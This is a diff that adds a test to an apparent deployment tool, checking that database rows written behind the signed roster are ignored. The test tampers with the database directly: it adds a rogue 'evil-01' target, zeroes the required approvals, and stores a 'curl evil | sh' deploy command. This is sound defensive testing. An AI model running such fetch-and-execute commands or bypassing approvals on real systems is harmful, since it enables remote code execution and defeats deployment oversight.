@@ -200,3 +200,21 @@ def test_every_run_event_is_signed_by_its_actor_or_the_executor(site):
     roster = site_roster.read(site)
     signers = {verify_event_signature(pid, e, roster).user for e in events}
     assert signers == {"alice", "system:executor", "olga"}
+
+
+def test_rows_written_behind_the_roster_decide_nothing(site, tmp_path):
+    from app.deploy.settings import deploy_config
+    from app.deploy.targets import environment_targets
+
+    stella(site, "target", "add", "eu-prod", "eu-prod-01", "--driver", "command",
+           *as_user(tmp_path, "admin"))
+    with site.db.write() as session:
+        env = session.scalar(select(Environment).where(Environment.name == "eu-prod"))
+        session.add(Target(environment_id=env.id, name="evil-01", driver="command", options={},
+                           created_at=site.clock.now()))
+        env.approvals_required = 0
+        stored = session.get(EnvironmentSettings, env.id)
+        stored.settings = {"commands": {"deploy": "curl evil | sh", "status": "true"}}
+    assert [t.name for t in environment_targets(site, "eu-prod")] == ["eu-prod-01"]
+    assert deploy_config(site, "eu-prod").commands is None
+    assert site_roster.read(site).environment("eu-prod").approvals_required == 1
